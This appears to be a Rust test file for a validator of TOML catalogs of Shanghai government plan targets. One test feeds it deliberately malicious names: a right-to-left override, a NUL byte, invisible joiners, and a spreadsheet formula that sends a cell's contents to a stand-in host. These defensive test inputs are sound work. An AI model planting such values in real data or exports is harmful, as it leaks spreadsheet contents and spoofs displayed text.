//! Validation cases: each problem the catalog check must find, and a valid catalog's values.

use std::fs;
use std::path::Path;

use super::{Catalog, CatalogPaths, CatalogProblem, PublishedFile};
use crate::domain::{Comparator, TargetKind};
use chrono::NaiveDate;

/// A one-plan document: line 3 holds the goal, line 2 the baseline.
const DOCUMENT: &str = "上海市推进智慧城市建设“十三五”规划\n实际光纤入户率 54%;家庭宽带用户 330万户\n实际光纤入户率达到 70%,光纤用户超过 500 万户\n建成3—5个大数据产业基地\n";

const PLAN: &str = r#"
[plan]
slug = "demo-plan"
title = "上海市推进智慧城市建设“十三五”规划"
title_en = "Smart city plan"
doc_number = "沪府发〔2016〕80号"
issued = 2016-09-19
horizon = [2016, 2020]
source = "doc.txt"
line = 1

[[indicator]]
slug = "ftth"
name = "实际光纤入户率"
name_en = "FTTH take-up"
unit = "%"
higher_is_better = true

[[indicator]]
slug = "fibre-users"
name = "光纤用户数"
name_en = "Fibre users"
unit = "户"
higher_is_better = true
"#;

const GOOD_TARGETS: &str = r#"
[[target]]
slug = "demo-ftth"
indicator = "ftth"
name = "实际光纤入户率"
name_en = "FTTH take-up"
kind = "level"
comparator = ">="
value = 70
unit = "%"
deadline = 2020
baseline = { value = 54, year = 2015, line = 2 }
source = { line = 3, quote = "实际光纤入户率达到 70%" }

[[target]]
slug = "demo-fibre-users"
indicator = "fibre-users"
name = "光纤用户"
name_en = "Fibre users"
kind = "level"
comparator = ">"
value = 500
unit = "万户"
deadline = 2020
baseline = { value = 330, year = 2015, line = 2 }
source = { line = 3, quote = "光纤用户超过 500 万户" }

[[target]]
slug = "demo-bases"
name = "大数据产业基地"
name_en = "Big-data industry bases"
kind = "milestone"
unit = "%"
deadline = 2020-06-30
source = { line = 4, quote = "建成3—5个大数据产业基地" }
"#;

fn write_catalog(dir: &Path, plan_file: &str) -> CatalogPaths {
    let targets = dir.join("targets");
    let documents = dir.join("documents");
    fs::create_dir_all(&targets).unwrap();
    fs::create_dir_all(&documents).unwrap();
    fs::write(documents.join("doc.txt"), DOCUMENT).unwrap();
    fs::write(targets.join("demo-plan.toml"), plan_file).unwrap();
    fs::write(targets.join("regions.toml"), "default = \"全市\"\ndistricts = [\"浦东新区\"]\n").unwrap();
    CatalogPaths { targets_dir: targets, documents_dir: documents }
}

fn load(plan_file: &str) -> Result<Catalog, Vec<CatalogProblem>> {
    let dir = tempfile::tempdir().unwrap();
    Catalog::load(&write_catalog(dir.path(), plan_file)).map_err(|e| e.0)
}

fn problems(plan_file: &str) -> Vec<CatalogProblem> {
    load(plan_file).expect_err("the catalog should be rejected")
}

/// A catalog whose one target is `body` (its other fields as in the good fibre target).
fn with_target(body: &str) -> String {
    format!("{PLAN}\n[[target]]\n{body}\n")
}

const FTTH_TARGET: &str = r#"slug = "demo-ftth"
indicator = "ftth"
name = "实际光纤入户率"
name_en = "FTTH take-up"
kind = "level"
comparator = ">="
value = 70
unit = "%"
deadline = 2020
source = { line = 3, quote = "实际光纤入户率达到 70%" }"#;

fn ftth_with(from: &str, to: &str) -> String {
    assert!(FTTH_TARGET.contains(from), "test setup: `{from}` not in the fibre target");
    with_target(&FTTH_TARGET.replace(from, to))
}

#[track_caller]
fn assert_one_problem(found: &[CatalogProblem], field: &str, reason_contains: &str) {
    assert!(
        found.iter().any(|p| p.field.as_deref() == Some(field) && p.reason.contains(reason_contains)),
        "expected a problem on `{field}` containing «{reason_contains}», got {found:#?}"
    );
}

#[test]
fn a_valid_catalog_loads_with_values_in_the_indicators_unit() {
    let catalog = load(&format!("{PLAN}{GOOD_TARGETS}")).unwrap();
    assert_eq!(catalog.plans.len(), 1);
    assert_eq!(catalog.plans[0].doc_number.as_deref(), Some("沪府发〔2016〕80号"));
    let users = catalog.targets.iter().find(|t| t.slug == "demo-fibre-users").unwrap();
    assert_eq!(users.comparator, Some(Comparator::MoreThan));
    assert_eq!(users.value, 5_000_000.0);
    assert_eq!(users.baseline.as_ref().unwrap().value, 3_300_000.0);
    assert_eq!(
        crate::present::goal_as_written(users.kind, users.comparator, users.value, None, users.scale, &users.unit),
        "> 500万户"
    );
    let bases = catalog.targets.iter().find(|t| t.slug == "demo-bases").unwrap();
    assert_eq!(bases.kind, TargetKind::Milestone);
    assert_eq!(bases.value, 100.0);
    assert_eq!(bases.deadline.to_string(), "2020-06-30");
    // The milestone's own indicator is implied.
    assert_eq!(catalog.indicator("demo-bases").unwrap().unit, "%");
    assert_eq!(users.region, "全市");
}

#[test]
fn a_quote_not_on_its_line_is_reported_with_file_line_and_text() {
    let found = problems(&ftth_with("达到 70%\" }", "达到 75%\" }"));
    assert_eq!(found.len(), 1, "{found:#?}");
    let message = found[0].to_string();
    assert!(message.contains("demo-plan.toml"), "{message}");
    assert!(message.contains("target demo-ftth"), "{message}");
    assert!(message.contains("source.quote"), "{message}");
    assert!(message.contains("line 3 of doc.txt"), "{message}");
}

#[test]
fn a_line_outside_the_document_is_reported() {
    let found = problems(&ftth_with("line = 3,", "line = 99,"));
    assert_one_problem(&found, "source.line", "outside");
}

#[test]
fn a_line_outside_the_document_names_the_file_not_where_the_server_keeps_it() {
    let found = problems(&ftth_with("line = 3,", "line = -5,"));
    let problem = found.iter().find(|p| p.field.as_deref() == Some("source.line")).expect("a problem on the line");
    assert!(problem.reason.contains("outside doc.txt (") && !problem.reason.contains('/'), "{problem:?}");
}

#[test]
fn names_and_titles_with_control_or_direction_characters_are_reported() {
    let plan_with = |from: &str, to: &str| format!("{}\n[[target]]\n{FTTH_TARGET}\n", PLAN.replace(from, to));
    let reversed = plan_with("title_en = \"Smart city plan\"", "title_en = \"\u{202e}nalp ytic tramS\"");
    assert_one_problem(&problems(&reversed), "title_en", "direction");
    let nul = plan_with("doc_number = \"沪府发〔2016〕80号\"", "doc_number = \"沪府发\\u0000〔2016〕80号\"");
    assert_one_problem(&problems(&nul), "doc_number", "control");
    // An invisible joiner: a name that passes for another.
    for mark in ['\u{200d}', '\u{00ad}', '\u{fe0f}', '\u{2028}'] {
        let lookalike = ftth_with("name = \"实际光纤入户率\"", &format!("name = \"实际光纤入户率{mark}\""));
        assert_one_problem(&problems(&lookalike), "name", "invisible");
    }
    let broken = ftth_with("name_en = \"FTTH take-up\"", "name_en = \"FTTH\\n[plan]\"");
    assert_one_problem(&problems(&broken), "name_en", "control");
    // Excel runs a template cell that begins so.
    let formula = ftth_with("name_en = \"FTTH take-up\"", "name_en = \"=HYPERLINK(\\\"http://x/?\\\"&A1)\"");
    assert_one_problem(&problems(&formula), "name_en", "formula");
}

#[test]
fn years_no_plan_speaks_of_are_reported_not_worked_with() {
    let plan_with = |from: &str, to: &str| format!("{}\n[[target]]\n{FTTH_TARGET}\n", PLAN.replace(from, to));
    assert_one_problem(
        &problems(&plan_with("horizon = [2016, 2020]", "horizon = [2016, 300000]")),
        "horizon",
        "300000",
    );
    assert_one_problem(&problems(&plan_with("horizon = [2016, 2020]", "horizon = [-5, 2020]")), "horizon", "outside");
    assert_one_problem(&problems(&plan_with("issued = 2016-09-19", "issued = 0001-01-01")), "issued", "outside");
    for deadline in ["300000", "0", "2147483647", "\"9999-12-31\""] {
        let found = problems(&ftth_with("deadline = 2020", &format!("deadline = {deadline}")));
        assert_one_problem(&found, "deadline", "outside 1949–2100");
    }
    let found =
        problems(&ftth_with("deadline = 2020", "deadline = 2020\nbaseline = { value = 54, year = -2015, line = 2 }"));
    assert_one_problem(&found, "baseline.year", "outside");
}

#[test]
fn duplicate_target_slugs_are_reported() {
    let found = problems(&format!("{PLAN}{GOOD_TARGETS}\n[[target]]\n{FTTH_TARGET}\n"));
    assert_one_problem(&found, "slug", "duplicate target slug");
}

#[test]
fn duplicate_indicator_slugs_are_reported() {
    let found = problems(&format!(
        "{PLAN}\n[[indicator]]\nslug = \"ftth\"\nname = \"x\"\nname_en = \"x\"\nunit = \"%\"\nhigher_is_better = true\n"
    ));
    assert_one_problem(&found, "slug", "duplicate indicator slug");
}

#[test]
fn one_indicator_is_not_both_a_running_total_and_a_level() {
    // 光纤用户超过 500 万户 read as users added since the plan began, beside the good target that
    // reads the same indicator as the number of users: refused, naming the other target.
    let added = GOOD_TARGETS.replace("slug = \"demo-fibre-users\"", "slug = \"demo-fibre-added\"").replace(
        "baseline = { value = 330, year = 2015, line = 2 }\nsource = { line = 3, quote = \"光纤用户超过 500 万户\" }",
        "cumulative = true\nsource = { line = 3, quote = \"光纤用户超过 500 万户\" }",
    );
    let added = &added[added.find("[[target]]\nslug = \"demo-fibre-added\"").unwrap()
        ..added.find("[[target]]\nslug = \"demo-bases\"").unwrap()];
    assert!(added.contains("cumulative = true"), "test setup: {added}");
    let found = problems(&format!("{PLAN}{GOOD_TARGETS}\n{added}"));
    assert_one_problem(&found, "indicator", "reads the indicator `fibre-users` as a running total");
    assert!(found.iter().any(|p| p.reason_zh.contains("目标“demo-fibre-users”按当期数值")), "{found:#?}");
    // With a baseline of its own it is measured from that figure, as a level: no conflict.
    let from_baseline =
        added.replace("cumulative = true", "cumulative = true\nbaseline = { value = 330, year = 2015, line = 2 }");
    assert!(load(&format!("{PLAN}{GOOD_TARGETS}\n{from_baseline}")).is_ok());
}

#[test]
fn an_unknown_indicator_is_reported() {
    let found = problems(&ftth_with("indicator = \"ftth\"", "indicator = \"fibre\""));
    assert_one_problem(&found, "indicator", "unknown indicator `fibre`");
}

#[test]
fn a_unit_that_does_not_fit_the_indicator_is_reported() {
    let found = problems(&ftth_with("unit = \"%\"", "unit = \"万户\""));
    assert_one_problem(&found, "unit", "does not match the indicator's unit `%`");
}

#[test]
fn kind_specific_fields_are_required() {
    let cases = [
        (FTTH_TARGET.replace("comparator = \">=\"\n", ""), "comparator"),
        (FTTH_TARGET.replace("kind = \"level\"", "kind = \"range\""), "value_max"),
        (FTTH_TARGET.replace("kind = \"level\"", "kind = \"change\""), "reference_year"),
        (FTTH_TARGET.replace("value = 70\n", ""), "value"),
        (FTTH_TARGET.replace("deadline = 2020\n", ""), "deadline"),
    ];
    for (body, field) in cases {
        let found = problems(&with_target(&body));
        assert_one_problem(&found, field, "missing");
    }
}

#[test]
fn a_deadline_not_after_the_baseline_is_reported() {
    let found =
        problems(&ftth_with("deadline = 2020", "deadline = 2015\nbaseline = { value = 54, year = 2015, line = 2 }"));
    assert_one_problem(&found, "deadline", "not after the baseline year 2015");
}

#[test]
fn unknown_kinds_comparators_regions_and_fields_are_reported() {
    assert_one_problem(&problems(&ftth_with("kind = \"level\"", "kind = \"goal\"")), "kind", "unknown kind");
    assert_one_problem(&problems(&ftth_with("comparator = \">=\"", "comparator = \"=>\"")), "comparator", "unknown");
    assert_one_problem(&problems(&ftth_with("unit = \"%\"", "unit = \"%\"\nregion = \"火星\"")), "region", "火星");
    let unknown_field = problems(&ftth_with("unit = \"%\"", "unit = \"%\"\nvalu = 3"));
    assert!(unknown_field[0].reason.contains("unknown field `valu`"), "{unknown_field:#?}");
}

#[test]
fn every_problem_is_reported_at_once() {
    let body = FTTH_TARGET
        .replace("indicator = \"ftth\"", "indicator = \"nope\"")
        .replace("达到 70%\" }", "达到 80%\" }")
        .replace("comparator = \">=\"\n", "");
    let found = problems(&format!(
        "{}\n[[target]]\n{body}\n",
        format!("{PLAN}{GOOD_TARGETS}").replace("光纤用户超过 500", "光纤用户超过 600")
    ));
    let fields: Vec<_> = found.iter().filter_map(|p| p.field.as_deref()).collect();
    for field in ["indicator", "source.quote", "comparator"] {
        assert!(fields.contains(&field), "{field} missing from {found:#?}");
    }
    // The problem in the first, otherwise good, target is there too.
    assert!(found.iter().any(|p| p.item.as_deref() == Some("target demo-fibre-users")), "{found:#?}");
}

#[test]
fn broken_toml_and_a_plan_named_unlike_its_file_are_reported() {
    assert!(problems("[plan\nslug=")[0].reason.contains("not valid TOML"));
    let found = problems(&PLAN.replace("slug = \"demo-plan\"", "slug = \"other\""));
    assert_one_problem(&found, "slug", "must equal the file name");
}

#[test]
fn the_shipped_catalog_passes_the_check() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let paths = CatalogPaths { targets_dir: root.join("targets"), documents_dir: root.join("seed/documents") };
    let catalog = Catalog::load(&paths).unwrap_or_else(|e| panic!("{e}"));
    let smart_city = catalog.targets.iter().filter(|t| t.plan == "smart-city-13th-fyp").count();
    assert!(smart_city >= 25, "the smart-city plan has {smart_city} targets");
    assert!(catalog.targets.len() >= 400, "{} targets", catalog.targets.len());
}

/// A one-line responsibility note for the owners tests (line 5 of the document).
const DEPARTMENTS: &str = r#"
[[department]]
slug = "eitc"
name = "市经济信息化委"
aliases = ["市经信委"]
name_en = "Municipal Commission of Economy and Informatization"
kind = "市级部门"

[[department]]
slug = "ndrc"
name = "市发展改革委"
name_en = "Municipal Development and Reform Commission"
kind = "市级部门"
"#;

fn load_with_departments(plan_file: &str, departments: &str) -> Result<Catalog, Vec<CatalogProblem>> {
    let dir = tempfile::tempdir().unwrap();
    let paths = write_catalog(dir.path(), plan_file);
    let document = format!("{DOCUMENT}（责任单位：市经信委、市发展改革委）\n");
    fs::write(paths.documents_dir.join("doc.txt"), document).unwrap();
    fs::write(paths.targets_dir.join("departments.toml"), departments).unwrap();
    Catalog::load(&paths).map_err(|e| e.0)
}

#[test]
fn owners_are_cited_like_quotes_by_name_or_alias_on_their_line() {
    let owned = ftth_with("deadline = 2020", "deadline = 2020\nowners = [\"eitc\", \"ndrc\"]\nowners_line = 5");
    let catalog = load_with_departments(&owned, DEPARTMENTS).unwrap();
    assert_eq!(catalog.targets[0].owners, ["eitc", "ndrc"]);
    assert_eq!(catalog.departments.len(), 2);

    for (change, field, reason) in [
        ("owners = [\"eitc\"]\nowners_line = 3", "owners", "nor an alias of `eitc` is on line 3"),
        ("owners = [\"nobody\"]\nowners_line = 5", "owners", "unknown department `nobody`"),
        // A name outside the directory: the names near it suggested.
        ("owners = [\"市发改委\"]\nowners_line = 5", "owners", "near: 市发展改革委"),
        ("owners = [\"eitc\"]", "owners_line", "missing"),
        ("owners_line = 5", "owners", "missing"),
        ("owners = [\"eitc\", \"eitc\"]\nowners_line = 5", "owners", "named twice"),
        ("owners = [\"eitc\"]\nowners_line = 99", "owners_line", "outside"),
    ] {
        let found =
            load_with_departments(&ftth_with("deadline = 2020", &format!("deadline = 2020\n{change}")), DEPARTMENTS)
                .expect_err(change);
        assert_one_problem(&found, field, reason);
    }
}

#[test]
fn a_spelling_names_one_department_only_and_kinds_are_the_three_known() {
    let twice = format!(
        "{DEPARTMENTS}\n[[department]]\nslug = \"eitc2\"\nname = \"市经信委\"\nname_en = \"x\"\nkind = \"市级部门\"\n"
    );
    let found = load_with_departments(&ftth_with("", ""), &twice).expect_err("a spelling twice");
    assert_one_problem(&found, "aliases", "already names department eitc");
    let kind = DEPARTMENTS.replacen("kind = \"市级部门\"", "kind = \"部门\"", 1);
    let found = load_with_departments(&ftth_with("", ""), &kind).expect_err("an unknown kind");
    assert_one_problem(&found, "kind", "use 市级部门, 区政府 or 其他");
}

#[test]
fn problems_are_told_in_chinese_too() {
    use crate::present::Lang;

    let found =
        problems(&ftth_with("unit = \"%\"", "unit = \"%\"\nregion = \"火星\"").replace("达到 70%\" }", "达到 75%\" }"));
    let region = found.iter().find(|p| p.field.as_deref() == Some("region")).expect("a region problem");
    assert_eq!(region.reason_zh, "未知的地区“火星”（见 targets/regions.toml）");
    let quote = found.iter().find(|p| p.field.as_deref() == Some("source.quote")).expect("a quote problem");
    assert!(quote.reason_zh.contains("未逐字出现在 doc.txt 第 3 行"), "{quote:#?}");
    let shown = region.shown(Lang::Zh);
    assert!(shown.contains("字段 region"), "{shown}");
    assert!(shown.contains(&region.reason_zh), "{shown}");
    assert!(shown.contains("target demo-ftth"), "{shown}");
    // The English reason is unchanged, and shown in English.
    assert!(region.shown(Lang::En).contains(&region.reason), "{region:#?}");

    let missing = problems(&with_target(&FTTH_TARGET.replace("deadline = 2020\n", "")));
    let deadline = missing.iter().find(|p| p.field.as_deref() == Some("deadline")).expect("a deadline problem");
    assert_eq!((deadline.reason.as_str(), deadline.reason_zh.as_str()), ("missing", "缺少此字段"));
    assert!(deadline.shown(Lang::Zh).ends_with("：字段 deadline：缺少此字段"), "{}", deadline.shown(Lang::Zh));

    // Every problem has a Chinese reason, even one that keeps a library's message.
    let broken = problems("[plan\nslug=");
    assert!(broken[0].reason_zh.starts_with("不是有效的 TOML 文件："), "{broken:#?}");
    for p in found.iter().chain(&missing).chain(&broken) {
        assert!(p.reason_zh.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)), "{p:#?}");
    }
}

/// A second plan file citing the same document, with its own slug, 文号 and title (`{slug}` in
/// the title stands for the slug).
fn plan_named(slug: &str, doc_number: &str) -> String {
    plan_titled(slug, doc_number, "上海市推进智慧城市建设“十三五”规划（{slug}）")
}

fn plan_titled(slug: &str, doc_number: &str, title: &str) -> String {
    let title = title.replace("{slug}", slug);
    format!(
        r#"
[plan]
slug = "{slug}"
title = "{title}"
title_en = "Smart city plan"
doc_number = "{doc_number}"
issued = 2016-09-19
horizon = [2016, 2020]
source = "doc.txt"
line = 1

[[target]]
slug = "{slug}-bases"
name = "大数据产业基地"
name_en = "Big-data industry bases"
kind = "milestone"
unit = "%"
deadline = 2020
source = {{ line = 4, quote = "建成3—5个大数据产业基地" }}
"#
    )
}

#[test]
fn a_plan_registered_twice_under_one_doc_number_is_reported_but_its_versions_are_not() {
    let dir = tempfile::tempdir().unwrap();
    let paths = write_catalog(dir.path(), &format!("{PLAN}{GOOD_TARGETS}"));
    fs::write(paths.targets_dir.join("demo-plan-v1.toml"), plan_named("demo-plan-v1", "沪府发〔2016〕80号")).unwrap();
    fs::write(paths.targets_dir.join("other-plan.toml"), plan_named("other-plan", "沪府发〔2016〕81号")).unwrap();
    Catalog::load(&paths).expect("an earlier version keeps its number; another number is another plan");

    fs::write(paths.targets_dir.join("twin-plan.toml"), plan_named("twin-plan", " 沪府发〔2016〕80号")).unwrap();
    let found = Catalog::load(&paths).expect_err("the same plan twice").0;
    assert_one_problem(&found, "doc_number", "the same 文号 as plan `demo-plan");
    assert!(found.iter().any(|p| p.reason_zh.contains("发布其新版本请用标识“demo-plan”")), "{found:#?}");
    fs::remove_file(paths.targets_dir.join("twin-plan.toml")).unwrap();

    // Nor under one title: an earlier version keeps it, another plan may not take it.
    let title = "上海市推进智慧城市建设“十三五”规划";
    fs::write(paths.targets_dir.join("demo-plan-v1.toml"), plan_titled("demo-plan-v1", "沪府发〔2016〕80号", title))
        .unwrap();
    Catalog::load(&paths).expect("an earlier version keeps its title");
    fs::write(paths.targets_dir.join("lookalike.toml"), plan_titled("lookalike", "沪府发〔2016〕82号", title)).unwrap();
    let found = Catalog::load(&paths).expect_err("two plans of one title").0;
    assert_one_problem(&found, "title", "the same title as plan `demo-plan");
}

#[test]
fn an_earlier_version_measures_its_milestones_where_they_were_measured() {
    let file = PublishedFile {
        slug: "p".into(),
        catalog: "[plan]\nslug = \"p\"\n\n[[target]]\nslug = \"p-1\"\nname = \"建成平台\"\nkind = \"milestone\"\n"
            .into(),
        document_name: "p.v1.txt".into(),
        document_text: String::new(),
    };
    let table = |file: &PublishedFile| file.catalog.parse::<toml::Table>().unwrap();
    // Carried into the newer version: it names the milestone's own measure, which the newer defines.
    let carried = table(&file.superseded(1, NaiveDate::from_ymd_opt(2026, 9, 1).unwrap(), &["p-1".into()]).unwrap());
    assert_eq!(carried["target"][0]["slug"].as_str(), Some("p-1-v1"));
    assert_eq!(carried["target"][0]["indicator"].as_str(), Some("p-1"));
    assert!(carried.get("indicator").is_none(), "{carried}");
    // Dropped by it: the measure is defined here, under the name its figures are kept.
    let dropped = table(&file.superseded(1, NaiveDate::from_ymd_opt(2026, 9, 1).unwrap(), &[]).unwrap());
    assert_eq!(dropped["indicator"][0]["slug"].as_str(), Some("p-1"), "{dropped}");
    assert_eq!(dropped["indicator"][0]["unit"].as_str(), Some("%"));
}

#[test]
fn a_figure_written_in_wan_is_the_whole_number_it_means() {
    // 1.63万 as a binary product is 16299.999999999998.
    assert_eq!(1.63 * 10_000.0, 16_299.999_999_999_998);
    assert_eq!(super::validate::scaled(1.63, 10_000.0), 16_300.0);
    assert_eq!(super::validate::scaled(0.1234, 1e-8), 1.234e-9, "small figures keep their digits");
    assert_eq!(super::validate::scaled(2.5, 1.0), 2.5);
}
